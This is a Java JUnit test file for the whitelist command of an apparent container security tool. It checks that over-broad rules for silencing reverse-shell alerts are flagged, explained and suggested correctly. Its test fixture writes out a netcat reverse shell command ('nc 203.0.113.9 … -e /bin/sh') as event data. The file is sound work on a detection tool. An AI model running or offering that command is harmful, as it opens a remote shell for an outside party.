package io.hivesec.examples.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.hivesec.json.HiveModule;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Rule files and alert files on the command line. */
final class WhitelistCommandTest {
    private static final String EVENT = """
            {"type":"process_started","time":"2026-01-02T03:04:05Z","container":{"id":"c%1$d","name":"web-%1$d","image":"web:1"},"process":{"pid":%1$d,"executable":"/usr/bin/nc","arguments":["nc","203.0.113.9","44%1$d","-e","/bin/sh"]},"ancestors":[{"pid":1,"executable":"/usr/sbin/watchdog","arguments":["watchdog"]}]}
            """;

    @TempDir
    private Path folder;

    private Path alerts = Path.of("");

    @BeforeEach
    void raiseTwentyAlerts() throws IOException {
        String events = IntStream.range(20, 40).mapToObj(EVENT::formatted).collect(Collectors.joining());
        Run run = Run.hive("watch", "--format", "jsonl", write("events.jsonl", events));
        assertThat(run.out()).hasLineCount(20);
        alerts = write("alerts.jsonl", run.out());
    }

    @Test
    void check_ruleThatSilencesMostAlerts_isTooBroad() throws IOException {
        Path rules = rules("\"processes\":\"nc\"");
        Run run = Run.hive("whitelist", "check", "--against", alerts, rules);
        assertThat(run.status()).isEqualTo(ExitStatus.FOUND);
        assertThat(run.out()).contains("too broad: rule 'r' would have silenced 20 of 20 reverse_shell alerts (100 %)");
    }

    @Test
    void check_ruleForOneTarget_isNot() throws IOException {
        Path rules = rules("\"processes\":\"nc\",\"targetPorts\":\"4420\"");
        Run run = Run.hive("whitelist", "check", "--against", alerts, rules);
        assertThat(run.status()).isZero();
        assertThat(run.out()).contains("silenced 1 of 20").doesNotContain("too broad");
    }

    @Test
    void check_alertFileCutInHalf_isRefusedWithItsLine() throws IOException {
        String text = Files.readString(alerts);
        Path cut = write("cut.jsonl", text.substring(0, text.indexOf('\n') + 50));
        Run run = Run.hive("whitelist", "check", "--against", cut, rules("\"processes\":\"nc\""));
        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(run.err()).startsWith("hive: " + cut + ":2: not JSON").hasLineCount(1);
    }

    @Test
    void check_fileOfSomethingElse_isNoAlert() throws IOException {
        Path other = write("other.jsonl", "{\"type\":\"process_started\"}\n");
        Run run = Run.hive("whitelist", "check", "--against", other, rules("\"processes\":\"nc\""));
        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(run.err()).startsWith("hive: " + other + ":1: no alert: ").hasLineCount(1);
    }

    @Test
    void explain_ruleThatMatches_isNamedAndTheAlertIsTrusted() throws IOException {
        Run run = Run.hive("whitelist", "explain", "--alerts", alerts, rules("\"processes\":\"nc\""));
        assertThat(run.status()).isZero();
        assertThat(run.out()).contains("rule 'r' trusts it: our own drill");
    }

    @Test
    void explain_ruleThatAlmostMatches_saysWhichConditionFails() throws IOException {
        Path rules = rules("\"processes\":\"nc\",\"targetPorts\":\"9000\"");
        Run run = Run.hive("whitelist", "explain", "--alerts", alerts, "--alert", firstId(), rules);
        assertThat(run.status()).isEqualTo(ExitStatus.FOUND);
        assertThat(run.out())
                .contains("rule 'r' does not trust it: targetPorts: ")
                .contains("what holds: processes");
        assertThat(run.out()).hasLineCount(2);
    }

    @Test
    void explain_unknownAlert_isOneClearLine() throws IOException {
        Run run =
                Run.hive("whitelist", "explain", "--alerts", alerts, "--alert", "none", rules("\"processes\":\"nc\""));
        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(run.err()).isEqualToIgnoringNewLines("hive: " + alerts + ": no alert 'none'");
    }

    @Test
    void suggest_rulesOfAnAlert_areARuleFileThatTrustsIt() throws IOException {
        Run run = Run.hive("whitelist", "suggest", "--alerts", alerts, "--alert", firstId(), "--creator", "ann");
        assertThat(run.status()).isEqualTo(ExitStatus.NOTHING_FOUND);
        Path rules = write("suggested.json", run.out());
        Run explained = Run.hive("whitelist", "explain", "--alerts", alerts, "--alert", firstId(), rules);
        assertThat(explained.status()).isZero();
        assertThat(Run.hive("whitelist", "check", "--against", alerts, rules).out())
                .contains("silenced 1 of 20");
    }

    private String firstId() throws IOException {
        JsonNode first = HiveModule.mapper().readTree(Files.readAllLines(alerts).get(0));
        return first.path("id").asText();
    }

    private Path rules(String conditions) throws IOException {
        return write("rules.json", """
                {"version":1,"rules":[{"id":"r","type":"reverse_shell","description":"our own drill","creator":"ann",
                 "created":"2026-01-02T00:00:00Z","conditions":{%s}}]}
                """.formatted(conditions));
    }

    private Path write(String name, String text) throws IOException {
        return Files.write(folder.resolve(name), text.getBytes(StandardCharsets.UTF_8));
    }
}
